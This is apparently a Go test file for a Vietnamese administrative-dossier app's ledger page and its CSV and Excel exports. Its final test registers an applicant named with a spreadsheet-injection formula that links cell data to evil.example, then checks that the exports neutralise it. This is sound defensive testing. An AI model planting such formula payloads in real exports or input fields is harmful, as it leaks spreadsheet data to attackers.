package office_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/motcua/motcua/internal/account"
	"github.com/motcua/motcua/internal/apptest"
	"github.com/motcua/motcua/internal/calendar"
	"github.com/motcua/motcua/internal/dossier"
	"github.com/motcua/motcua/internal/workflow"
	"github.com/motcua/motcua/web/route"
)

const (
	centreDucXuan  = "001.01.50.H19" // receives the commune test procedure
	communeDucXuan = "001.00.50.H19" // decides it
)

// ledgerEnv is a running app with, on Tuesday 1 December 2026, two
// dossiers at Đức Xuân's centre (A received and handed to the ward, B
// refused) and one at the province's centre (X).
type ledgerEnv struct {
	env     *apptest.Env
	a, b, x dossier.Dossier
}

func newLedgerEnv(t *testing.T) ledgerEnv {
	t.Helper()
	env := apptest.New(t)
	env.OpenProcedures(t)
	ctx := context.Background()
	vn := calendar.Location()
	citizen := env.Users[account.RoleCitizen]
	clerk := env.Staff(t, account.RoleClerk, centreDucXuan)
	env.Clock.Set(time.Date(2026, 12, 1, 8, 0, 0, 0, vn))
	l := ledgerEnv{env: env}
	l.a = env.SubmitDossier(t, citizen, apptest.ProcCommune, communeDucXuan)
	env.Clock.Set(time.Date(2026, 12, 1, 8, 10, 0, 0, vn))
	l.b = env.SubmitDossier(t, citizen, apptest.ProcCommune, communeDucXuan)
	l.x = env.SubmitDossier(t, citizen, apptest.ProcProvince, "")
	env.Clock.Set(time.Date(2026, 12, 1, 8, 30, 0, 0, vn))
	var err error
	if l.a, err = env.App.Dossiers.Act(ctx, clerk, l.a.Code, dossier.ActInput{Action: workflow.ActionReceive}); err != nil {
		t.Fatal(err)
	}
	env.Clock.Set(time.Date(2026, 12, 1, 8, 40, 0, 0, vn))
	if l.b, err = env.App.Dossiers.Act(ctx, clerk, l.b.Code, dossier.ActInput{Action: workflow.ActionRefuse,
		Note: "Không thuộc thẩm quyền, hướng dẫn nộp tại Sở Tư pháp"}); err != nil {
		t.Fatal(err)
	}
	env.Clock.Set(time.Date(2026, 12, 3, 10, 0, 0, 0, vn))
	return l
}

// codesIn lists the dossier codes the page's ledger table links to.
func codesIn(res *apptest.Response) []string {
	var out []string
	res.Doc.Find(".ledger tbody th a").Each(func(_ int, s *goquery.Selection) { out = append(out, s.Text()) })
	return out
}

// TestLedgerPage: this month by default, the summary and the rows of the
// staff member's own unit only, the download links; bad or reversed dates
// answer 422 beside the fields with the values kept.
func TestLedgerPage(t *testing.T) {
	l := newLedgerEnv(t)
	env := l.env
	clerk := env.StaffClient(t, account.RoleClerk, centreDucXuan)
	res := clerk.Get(string(route.Ledger(route.LedgerQuery{})))
	if res.Status != http.StatusOK {
		t.Fatalf("ledger: %d %s", res.Status, res.Text("main"))
	}
	if from, to := res.Doc.Find("input#from").AttrOr("value", ""), res.Doc.Find("input#to").AttrOr("value", ""); from != "01/12/2026" ||
		to != "31/12/2026" {
		t.Errorf("default period %q-%q, want this month", from, to)
	}
	// A was received at 08:30; B was refused, its reception is its
	// submission at 08:10.
	if d := cmp.Diff([]string{l.b.Code, l.a.Code}, codesIn(res)); d != "" {
		t.Errorf("rows in reception order (-want +got):\n%s", d)
	}
	main := res.Text("main")
	for _, want := range []string{"Tổng số hồ sơ trong sổ", "Không thuộc thẩm quyền, hướng dẫn nộp tại Sở Tư pháp",
		"UBND Phường Đức Xuân", "08:30 01/12/2026", "Đang xử lý, còn hạn", "Không được tiếp nhận"} {
		if !strings.Contains(main, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	if strings.Contains(main, "report.") {
		t.Errorf("page shows an untranslated key: %q", main)
	}
	for _, link := range []string{string(route.LedgerXLSX("01/12/2026", "31/12/2026")), string(route.LedgerCSV("01/12/2026", "31/12/2026"))} {
		if res.Doc.Find("a[href='"+link+"']").Length() != 1 {
			t.Errorf("no download link %s", link)
		}
	}
	if res.Doc.Find("nav a[href='"+route.PathLedger+"']").Length() == 0 {
		t.Error("no navigation entry for the ledger")
	}

	// The ward's officer sees A, handed over to the ward, and not B.
	officer := env.StaffClient(t, account.RoleOfficer, communeDucXuan)
	if got := codesIn(officer.Get(string(route.Ledger(route.LedgerQuery{})))); len(got) != 1 || got[0] != l.a.Code {
		t.Errorf("ward's ledger: %v, want only %s", got, l.a.Code)
	}
	// The province's centre sees X only.
	prov := env.Client(t)
	prov.Login(env.Users[account.RoleClerk])
	if got := codesIn(prov.Get(string(route.Ledger(route.LedgerQuery{})))); len(got) != 1 || got[0] != l.x.Code {
		t.Errorf("province centre's ledger: %v, want only %s", got, l.x.Code)
	}
	// Another month has none of them.
	res = clerk.Get(string(route.Ledger(route.LedgerQuery{From: "01/11/2026", To: "30/11/2026"})))
	if res.Status != http.StatusOK || len(codesIn(res)) != 0 || !strings.Contains(res.Text("main"), "Không có hồ sơ nào") {
		t.Errorf("November: %d %v", res.Status, codesIn(res))
	}

	for _, tc := range []struct {
		from, to string
		errors   map[string]string // field id -> message part
	}{
		{"31/02/2026", "abc", map[string]string{"from": "Ngày bắt đầu phải là một ngày có thật", "to": "Ngày kết thúc phải là một ngày có thật"}},
		{"31/12/2026", "01/12/2026", map[string]string{"to": "Ngày kết thúc phải bằng hoặc sau ngày bắt đầu"}},
		{"01/12/2026", "", map[string]string{"to": "Nhập ngày kết thúc"}},
		{"01/01/2026", "01/01/2027", map[string]string{"to": "tối đa một năm"}},
	} {
		res := clerk.Get(string(route.Ledger(route.LedgerQuery{From: tc.from, To: tc.to})))
		if res.Status != http.StatusUnprocessableEntity {
			t.Errorf("%s-%s: %d, want 422", tc.from, tc.to, res.Status)
			continue
		}
		for id, want := range tc.errors {
			if got := res.Text("#" + id + "-error"); !strings.Contains(got, want) {
				t.Errorf("%s-%s: error beside %s %q, want %q", tc.from, tc.to, id, got, want)
			}
			if res.Doc.Find(".error-summary a[href='#"+id+"']").Length() != 1 {
				t.Errorf("%s-%s: the summary does not link to %s", tc.from, tc.to, id)
			}
		}
		if v := res.Doc.Find("input#from").AttrOr("value", "?"); v != tc.from {
			t.Errorf("%s-%s: from kept as %q", tc.from, tc.to, v)
		}
		if v := res.Doc.Find("input#to").AttrOr("value", "?"); v != tc.to {
			t.Errorf("%s-%s: to kept as %q", tc.from, tc.to, v)
		}
		if res.Doc.Find(".ledger").Length() != 0 {
			t.Errorf("%s-%s: the ledger is shown with the errors", tc.from, tc.to)
		}
	}
	// Downloads with a bad period answer the same way.
	if res := clerk.Get(string(route.LedgerCSV("31/12/2026", "01/12/2026"))); res.Status != http.StatusUnprocessableEntity ||
		!strings.Contains(res.Text("#to-error"), "sau ngày bắt đầu") {
		t.Errorf("CSV with reversed dates: %d", res.Status)
	}
	if res := clerk.Get(string(route.LedgerXLSX("x", "01/12/2026"))); res.Status != http.StatusUnprocessableEntity {
		t.Errorf("XLSX with a bad date: %d", res.Status)
	}
}

// TestLedgerAccess: applicants and administrators are refused the ledger
// and its downloads; anonymous visitors are sent to sign in.
func TestLedgerAccess(t *testing.T) {
	env := apptest.New(t)
	for _, path := range []string{route.PathLedger, route.PathLedgerCSV, route.PathLedgerXLSX} {
		for _, r := range []account.Role{account.RoleCitizen, account.RoleBusiness, account.RoleAdmin} {
			c := env.Client(t)
			c.Login(env.Users[r])
			if res := c.Get(path); res.Status != http.StatusForbidden {
				t.Errorf("%s as %s: %d, want 403", path, r, res.Status)
			}
		}
		if res := env.Client(t).Get(path); res.Status != http.StatusSeeOther || !strings.HasPrefix(res.Location, route.PathLogin) {
			t.Errorf("%s anonymous: %d to %q", path, res.Status, res.Location)
		}
	}
	c := env.Client(t)
	c.Login(env.Users[account.RoleCitizen])
	if res := c.Get(route.PathHome); res.Doc.Find("a[href='"+route.PathLedger+"']").Length() != 0 {
		t.Error("an applicant's navigation links to the ledger")
	}
}

// TestLedgerCSV: the CSV parses back with encoding/csv into the header and
// the unit's rows, starts with a byte-order mark, and comes as a private
// attachment named after the unit and the period.
func TestLedgerCSV(t *testing.T) {
	l := newLedgerEnv(t)
	clerk := l.env.StaffClient(t, account.RoleClerk, centreDucXuan)
	res := clerk.Get(string(route.LedgerCSV("01/12/2026", "31/12/2026")))
	if res.Status != http.StatusOK {
		t.Fatalf("CSV: %d %s", res.Status, res.Text("main"))
	}
	h := res.Header
	if ct := h.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := h.Get("Content-Disposition"); cd != `attachment; filename=so-theo-doi-001.01.50.H19-2026-12-01-2026-12-31.csv` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if cc := h.Get("Cache-Control"); cc != "private, no-store" {
		t.Errorf("Cache-Control %q", cc)
	}
	body, ok := bytes.CutPrefix(res.Body, []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatalf("no byte-order mark: % x", res.Body[:min(len(res.Body), 8)])
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, body)
	}
	if len(records) != 3 {
		t.Fatalf("%d records, want the header and 2 rows:\n%s", len(records), body)
	}
	wantHead := []string{"STT", "Mã hồ sơ", "Tên thủ tục (trích yếu)", "Số lượng hồ sơ (bộ)", "Tên người nộp / cơ quan, tổ chức",
		"Địa chỉ, số điện thoại", "Cơ quan chủ trì giải quyết", "Ngày, giờ nhận hồ sơ", "Ngày, giờ hẹn trả",
		"Ngày, giờ hẹn trả mới (thư xin lỗi)", "Ngày, giờ chuyển hồ sơ đến cơ quan giải quyết", "Cơ quan giải quyết được chuyển đến",
		"Nhận kết quả từ cơ quan giải quyết", "Ngày, giờ trả kết quả", "Trạng thái", "Đánh giá", "Ghi chú"}
	if d := cmp.Diff(wantHead, records[0]); d != "" {
		t.Errorf("header (-want +got):\n%s", d)
	}
	// B (refused, its reception is its submission at 08:10), then A.
	wantB := []string{"1", l.b.Code, l.b.Summary, "1", "Đỗ Thị Hoa", records[1][5], "UBND Phường Đức Xuân", "01/12/2026 08:10", "", "",
		"", "", "", "", "Không được tiếp nhận", "", "Không tiếp nhận: Không thuộc thẩm quyền, hướng dẫn nộp tại Sở Tư pháp"}
	if d := cmp.Diff(wantB, records[1]); d != "" {
		t.Errorf("B (-want +got):\n%s", d)
	}
	wantA := []string{"2", l.a.Code, l.a.Summary, "1", "Đỗ Thị Hoa", records[2][5], "UBND Phường Đức Xuân", "01/12/2026 08:30",
		"04/12/2026 08:30", "", "01/12/2026 08:30", "UBND Phường Đức Xuân", "", "", "Được tiếp nhận", "Đang xử lý, còn hạn", ""}
	if d := cmp.Diff(wantA, records[2]); d != "" {
		t.Errorf("A (-want +got):\n%s", d)
	}
	if !strings.Contains(records[1][5], "0987000123") {
		t.Errorf("contact %q lacks the phone", records[1][5])
	}
	// The province's centre downloads its own dossier only.
	prov := l.env.Client(t)
	prov.Login(l.env.Users[account.RoleClerk])
	res = prov.Get(string(route.LedgerCSV("01/12/2026", "31/12/2026")))
	if records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\xef\xbb\xbf")))).ReadAll(); err != nil ||
		len(records) != 2 || records[1][1] != l.x.Code {
		t.Errorf("province centre's CSV: %q %v, want only %s", records, err, l.x.Code)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.Contains(cd, "so-theo-doi-000.01.01.H19-") {
		t.Errorf("province centre's file name: %q", cd)
	}
	// An empty ledger still has its header.
	res = clerk.Get(string(route.LedgerCSV("01/11/2026", "30/11/2026")))
	if records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\xef\xbb\xbf")))).ReadAll(); err != nil ||
		len(records) != 1 || records[0][0] != "STT" {
		t.Errorf("empty CSV: %v %v", records, err)
	}
}

// TestLedgerXLSX: the workbook opens with excelize: a title, the unit and
// the period above a bold header frozen in place and filtered, the rows
// with instants as real date-times shown dd/mm/yyyy hh:mm, and the summary
// sheet.
func TestLedgerXLSX(t *testing.T) {
	l := newLedgerEnv(t)
	clerk := l.env.StaffClient(t, account.RoleClerk, centreDucXuan)
	res := clerk.Get(string(route.LedgerXLSX("01/12/2026", "31/12/2026")))
	if res.Status != http.StatusOK {
		t.Fatalf("XLSX: %d %s", res.Status, res.Text("main"))
	}
	h := res.Header
	if ct := h.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("Content-Type %q", ct)
	}
	if cd := h.Get("Content-Disposition"); cd != `attachment; filename=so-theo-doi-001.01.50.H19-2026-12-01-2026-12-31.xlsx` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if cc := h.Get("Cache-Control"); cc != "private, no-store" {
		t.Errorf("Cache-Control %q", cc)
	}
	f, err := excelize.OpenReader(bytes.NewReader(res.Body))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	defer f.Close()
	if d := cmp.Diff([]string{"Sổ theo dõi", "Tổng hợp"}, f.GetSheetList()); d != "" {
		t.Errorf("sheets (-want +got):\n%s", d)
	}
	const sheet = "Sổ theo dõi"
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 6 {
		t.Fatalf("%d rows, want title, unit, period, header and 2 dossiers: %q", len(rows), rows)
	}
	if rows[0][0] != "SỔ THEO DÕI HỒ SƠ" || rows[1][0] != "Trung tâm Phục vụ hành chính công Phường Đức Xuân" ||
		rows[2][0] != "Từ ngày 01/12/2026 đến ngày 31/12/2026" {
		t.Errorf("title rows: %q", rows[:3])
	}
	if len(rows[3]) != 17 || rows[3][0] != "STT" || rows[3][1] != "Mã hồ sơ" || rows[3][16] != "Ghi chú" {
		t.Errorf("header: %q", rows[3])
	}
	if rows[4][1] != l.b.Code || rows[5][1] != l.a.Code || rows[5][14] != "Được tiếp nhận" {
		t.Errorf("rows: %q", rows[4:])
	}
	// Instants are date-times (numbers) shown dd/mm/yyyy hh:mm.
	if got, _ := f.GetCellValue(sheet, "H6"); got != "01/12/2026 08:30" {
		t.Errorf("A's reception shows %q", got)
	}
	if got, _ := f.GetCellValue(sheet, "I6"); got != "04/12/2026 08:30" {
		t.Errorf("A's appointment shows %q", got)
	}
	raw, _ := f.GetCellValue(sheet, "H6", excelize.Options{RawCellValue: true})
	if typ, _ := f.GetCellType(sheet, "H6"); raw == "" || strings.Contains(raw, "/") || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) {
		t.Errorf("A's reception is stored as %q (type %v), want an Excel serial date", raw, typ)
	}
	if tm, err := excelize.ExcelDateToTime(mustFloat(t, raw), false); err != nil || !tm.Equal(time.Date(2026, 12, 1, 8, 30, 0, 0, time.UTC)) {
		t.Errorf("A's reception serial %s is %v, want 01/12/2026 08:30", raw, tm)
	}
	// The header is bold and frozen, and filters the rows.
	styleID, err := f.GetCellStyle(sheet, "B4")
	if err != nil {
		t.Fatal(err)
	}
	if st, err := f.GetStyle(styleID); err != nil || st.Font == nil || !st.Font.Bold {
		t.Errorf("header style %+v, %v: not bold", st, err)
	}
	if panes, err := f.GetPanes(sheet); err != nil || !panes.Freeze || panes.YSplit != 4 {
		t.Errorf("panes %+v, %v: want the first 4 rows frozen", panes, err)
	}
	// (excelize writes the range absolute: $A$4:$Q$6.)
	if xml := sheetXML(t, res.Body, "xl/worksheets/sheet1.xml"); !strings.Contains(strings.ReplaceAll(xml, "$", ""), `<autoFilter ref="A4:Q6"`) {
		t.Errorf("no filter on A4:Q6 in %s", xml[max(0, len(xml)-1500):])
	}
	sum, err := f.GetRows("Tổng hợp")
	if err != nil {
		t.Fatal(err)
	}
	if !contains(sum, []string{"Tổng số hồ sơ trong sổ", "2"}) || !contains(sum, []string{"Không được tiếp nhận", "1"}) ||
		!contains(sum, []string{"Đang xử lý, còn hạn", "1"}) {
		t.Errorf("summary sheet: %q", sum)
	}
}

func mustFloat(t *testing.T, s string) float64 {
	t.Helper()
	f, err := strconv.ParseFloat(s, 64)
	if err != nil {
		t.Fatalf("%q is no number: %v", s, err)
	}
	return f
}

func contains(rows [][]string, want []string) bool {
	for _, r := range rows {
		if cmp.Equal(r, want) {
			return true
		}
	}
	return false
}

// sheetXML returns one part of the workbook's zip.
func sheetXML(t *testing.T, body []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(body), int64(len(body)))
	if err != nil {
		t.Fatal(err)
	}
	rc, err := zr.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestLedgerPages: a hundred rows a page, numbered through the ledger, the
// next page linked with the period.
func TestLedgerPages(t *testing.T) {
	l := newLedgerEnv(t)
	env := l.env
	// A hundred more dossiers like A, received at the same instant.
	if _, err := env.App.DB.SQL().ExecContext(context.Background(), `INSERT INTO dossiers
		SELECT (jsonb_populate_record(d, jsonb_build_object('id', nextval('dossiers_id_seq'), 'code', d.code || '-' || g))).*
		FROM dossiers d, generate_series(1, 100) g WHERE d.code = $1 ORDER BY g`, l.a.Code); err != nil {
		t.Fatal(err)
	}
	clerk := env.StaffClient(t, account.RoleClerk, centreDucXuan)
	res := clerk.Get(string(route.Ledger(route.LedgerQuery{From: "01/12/2026", To: "31/12/2026"})))
	if n := res.Doc.Find(".ledger tbody tr").Length(); res.Status != http.StatusOK || n != 100 {
		t.Fatalf("page 1: %d with %d rows, want 100", res.Status, n)
	}
	next := string(route.Ledger(route.LedgerQuery{From: "01/12/2026", To: "31/12/2026", Page: 2}))
	if res.Doc.Find("a[href='"+next+"']").Length() == 0 {
		t.Fatalf("no link to page 2 (%s)", next)
	}
	if !strings.Contains(res.Text(".ledger tbody"), l.b.Code) {
		t.Error("page 1 lacks B, received first")
	}
	res = clerk.Get(next)
	rows := res.Doc.Find(".ledger tbody tr")
	if rows.Length() != 2 || strings.TrimSpace(rows.First().Find("td").First().Text()) != "101" {
		t.Errorf("page 2: %d rows from %q", rows.Length(), rows.First().Find("td").First().Text())
	}
	if total := strings.TrimSpace(res.Doc.Find(".table").First().Find("tbody tr").First().Find("td").Text()); total != "102" {
		t.Errorf("the summary on page 2 counts %q dossiers, want all 102", total)
	}
}

// TestLedgerFormulasAreText: an applicant who names themselves like a
// spreadsheet formula gets it back as text: the CSV cell is prefixed with a
// single quote (OWASP's CSV injection advice), the workbook's cell is a
// string, never a formula.
func TestLedgerFormulasAreText(t *testing.T) {
	l := newLedgerEnv(t)
	env := l.env
	const name = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
	attacker, err := env.App.Accounts.Register(context.Background(), account.RegisterInput{Kind: account.RoleCitizen,
		FullName: name, PersonalID: "019190000456", Email: "ke-gian@example.vn", Phone: "0987000456",
		Password: apptest.Password, Password2: apptest.Password})
	if err != nil {
		t.Fatal(err)
	}
	d := env.SubmitDossier(t, attacker, apptest.ProcCommune, communeDucXuan)
	clerk := env.StaffClient(t, account.RoleClerk, centreDucXuan)

	res := clerk.Get(string(route.LedgerCSV("01/12/2026", "31/12/2026")))
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(res.Body, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || res.Status != http.StatusOK {
		t.Fatalf("CSV: %d %v", res.Status, err)
	}
	var got []string
	for _, r := range records[1:] {
		if r[1] == d.Code {
			got = r
		}
	}
	if got == nil {
		t.Fatalf("CSV lacks %s: %q", d.Code, records)
	}
	if got[4] != "'"+name {
		t.Errorf("CSV applicant cell %q, want it prefixed with a single quote", got[4])
	}
	for i, cell := range got {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("CSV cell %d %q begins like a formula", i, cell)
		}
	}

	res = clerk.Get(string(route.LedgerXLSX("01/12/2026", "31/12/2026")))
	f, err := excelize.OpenReader(bytes.NewReader(res.Body))
	if err != nil {
		t.Fatalf("the workbook does not open: %v", err)
	}
	defer f.Close()
	const sheet = "Sổ theo dõi"
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	cell := ""
	for i, r := range rows {
		if len(r) > 4 && r[1] == d.Code {
			cell = "E" + strconv.Itoa(i+1)
		}
	}
	if cell == "" {
		t.Fatalf("workbook lacks %s: %q", d.Code, rows)
	}
	if v, _ := f.GetCellValue(sheet, cell); v != name {
		t.Errorf("workbook applicant %q, want the name as typed %q", v, name)
	}
	if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
		t.Errorf("workbook applicant cell is the formula %q", formula)
	}
	if typ, _ := f.GetCellType(sheet, cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
		t.Errorf("workbook applicant cell has type %v, want a string", typ)
	}
	for _, part := range []string{"xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"} {
		if xml := sheetXML(t, res.Body, part); strings.Contains(xml, "<f>") || strings.Contains(xml, "<f ") {
			t.Errorf("%s holds a formula", part)
		}
	}
}
